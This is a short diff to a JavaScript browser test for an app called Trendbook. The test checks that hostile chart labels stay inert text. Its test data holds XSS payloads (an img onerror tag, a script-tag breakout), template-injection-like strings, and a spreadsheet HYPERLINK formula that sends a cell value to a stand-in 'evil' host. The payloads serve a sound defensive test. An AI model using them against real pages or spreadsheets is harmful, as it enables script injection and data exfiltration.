@@ -94,7 +94,9 @@ describe('hostile labels in the data', () => {
     await context.close();
     expect(dialogs).toEqual([]);
     expect(injected).toBe(0);
-    expect(headers).toEqual(['Year', '<img src=x onerror=alert(1)>', '</script><script>alert(2)</script>', '=HYPERLINK("http://evil/?"&A1,"Click")', '{{x}} and ${y} and U+2028:\u2028end']);
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile header that must stay literal text.
+    const templateLike = '{{x}} and ${y} and U+2028:\u2028end';
+    expect(headers).toEqual(['Year', '<img src=x onerror=alert(1)>', '</script><script>alert(2)</script>', '=HYPERLINK("http://evil/?"&A1,"Click")', templateLike]);
     expect(alt).toContain('<img src=x onerror=alert(1)>');
     expect(title).toBe('Labels that try to be code: <script>alert(1)</script> & "quotes" · Trendbook');
   });
